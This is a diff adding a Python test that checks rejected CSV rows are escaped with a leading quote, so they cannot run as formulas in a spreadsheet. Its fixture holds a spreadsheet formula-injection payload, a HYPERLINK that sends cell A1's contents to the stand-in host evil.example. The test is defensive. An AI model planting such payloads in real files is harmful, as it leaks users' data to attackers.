@@ -177,3 +177,14 @@ def test_exit_code_is_non_zero_only_when_nothing_could_be_read(
     result = run(env, str(source))
     assert result.exit_code == 1
     assert message in result.output
+
+
+def test_rejected_rows_cannot_run_as_formulas_when_opened_in_a_spreadsheet(tmp_path, env):
+    source = tmp_path / "doc.csv"
+    source.write_text(
+        HEADER + '=HYPERLINK("http://evil.example/?x="&A1;"Bấm"),Tin,Nội dung.,vendor-a,,,,\n',
+        encoding="utf-8",
+    )
+    run(env, str(source))
+    (rejected,) = csv.DictReader((tmp_path / "doc.rejects.csv").open(encoding="utf-8"))
+    assert rejected["url"] == '\'=HYPERLINK("http://evil.example/?x="&A1;"Bấm")'
